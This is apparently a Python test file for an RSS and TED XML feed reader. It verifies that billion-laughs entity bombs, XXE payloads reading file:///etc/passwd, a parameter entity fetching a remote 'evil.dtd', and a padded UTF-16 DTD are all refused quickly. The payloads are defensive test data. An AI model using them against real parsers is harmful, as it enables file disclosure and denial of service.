"""Hostile XML (billion laughs, external entities) is refused fast on every XML path."""

from __future__ import annotations

import re
import time
import tracemalloc
from datetime import UTC, datetime
from pathlib import Path

import pytest

from feeds.errors import ParseError
from feeds.files import read_file
from feeds.rss import read_feed
from feeds.safe_xml import parse_xml, screen_entities
from feeds.sources.rss import RssFeed, RssOptions
from feeds.ted_xml import notice_from_ted_xml

FEEDS = Path(__file__).resolve().parents[2] / "feeds"
NOW = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)

# Ten levels of ten: 10^9 "lol"s (3 GB) if anything expanded it.
LAUGHS = "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' if i else '<!ENTITY lol0 "lol">' for i in range(10)
)
BILLION_LAUGHS_TED = f"""<?xml version="1.0"?>
<!DOCTYPE TED_EXPORT [{LAUGHS}]>
<TED_EXPORT DOC_ID="154324-2020"><CODED_DATA_SECTION>&lol9;</CODED_DATA_SECTION></TED_EXPORT>
""".encode()
BILLION_LAUGHS_RSS = f"""<?xml version="1.0"?>
<!DOCTYPE rss [{LAUGHS}]>
<rss version="2.0"><channel><title>x</title>
<item><title>&lol9;</title><link>https://example.org/1</link></item></channel></rss>
""".encode()
XXE_TED = b"""<?xml version="1.0"?>
<!DOCTYPE TED_EXPORT [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<TED_EXPORT DOC_ID="154324-2020"><FORM_SECTION>&xxe;</FORM_SECTION></TED_EXPORT>
"""
XXE_RSS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>x</title>
<item><title>leak &xxe;</title><link>https://example.org/1</link></item></channel></rss>
"""
# A parameter entity that would fetch an external DTD (out-of-band exfiltration).
XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>x</title></channel></rss>
"""
# The DTD hidden behind a long comment, in UTF-16: still found.
HIDDEN_UTF16 = (
    '<?xml version="1.0" encoding="UTF-16"?><!--' + " " * 100_000 + "-->"
    f"<!DOCTYPE rss [{LAUGHS}]><rss version='2.0'><channel><title>&lol9;</title></channel></rss>"
).encode("utf-16")


def refused_quickly(parse, payload: bytes) -> ParseError:
    """Run `parse(payload)`, expecting a ParseError within 1 s and under 10 MB of memory."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(ParseError) as caught:
            parse(payload)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 1.0
    assert peak < 10 * 1024 * 1024 + 3 * len(payload)
    return caught.value


@pytest.mark.parametrize("payload", [BILLION_LAUGHS_TED, XXE_TED], ids=["laughs", "xxe"])
def test_ted_xml_refuses_entity_attacks(payload):
    error = refused_quickly(lambda data: notice_from_ted_xml(data, where="evil.xml"), payload)
    assert str(error) == "evil.xml: refused XML: document type declarations (DTDs) are not allowed"


@pytest.mark.parametrize(
    "payload",
    [BILLION_LAUGHS_RSS, XXE_RSS, XXE_PARAMETER, HIDDEN_UTF16],
    ids=["laughs", "xxe", "parameter-entity", "hidden-utf16"],
)
def test_rss_refuses_entity_attacks_before_feedparser_sees_them(payload):
    def parse(data):
        return read_feed(data, url="https://example.org/feed", source="x")

    error = refused_quickly(parse, payload)
    assert "refused XML: the document type declares entities" in str(error)


def test_rss_source_reports_the_attack_as_a_failed_page(fake_fetch):
    harvester = RssFeed(RssOptions(url="https://example.org/feed"))
    (page,) = harvester.pages(fake_fetch(lambda url, params: XXE_RSS), {"seen": {}}, NOW)
    assert page.notices == ()
    assert "refused XML" in page.error
    assert page.state == {"seen": {}}  # nothing moves on


def test_import_refuses_a_hostile_ted_file(tmp_path):
    path = tmp_path / "evil.xml"
    path.write_bytes(BILLION_LAUGHS_TED)
    with pytest.raises(ParseError, match=r"\(DTDs\) are not allowed"):
        list(read_file(path))


def test_a_public_doctype_without_entities_is_allowed_for_rss():
    rss091 = (
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"></rss>'
    )
    screen_entities(rss091, where="x")  # does not raise


def test_xml_over_the_size_cap_is_refused_before_parsing():
    with pytest.raises(ParseError, match="XML of 2001 bytes is over the 2000-byte limit"):
        parse_xml(b"<a>" + b"x" * 1994 + b"</a>", where="big.xml", max_bytes=2000)


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        (b"", "XML document is empty"),
        (b"<a><b></a>", "invalid XML: mismatched tag"),
        (b'<?xml version="1.0" encoding="nope"?><a/>', "unreadable XML encoding"),
        (b"<a>\xff</a>", "invalid XML: not well-formed"),
    ],
)
def test_malformed_xml_names_the_place_and_the_fault(payload, reason):
    with pytest.raises(ParseError, match=f"^doc.xml: {reason}"):
        parse_xml(payload, where="doc.xml")


def test_only_safe_xml_parses_xml_and_only_rss_calls_feedparser():
    unsafe = re.compile(r"^\s*(?:from|import)\s+(?:xml|lxml)\b", re.MULTILINE)
    uses_feedparser = re.compile(r"^\s*(?:from|import)\s+feedparser\b", re.MULTILINE)
    for path in FEEDS.rglob("*.py"):
        code = path.read_text()
        if path.name != "safe_xml.py":
            assert not unsafe.search(code), f"{path} imports an XML parser directly"
        if path.name != "rss.py" or path.parent.name != "feeds":
            assert not uses_feedparser.search(code), f"{path} uses feedparser"
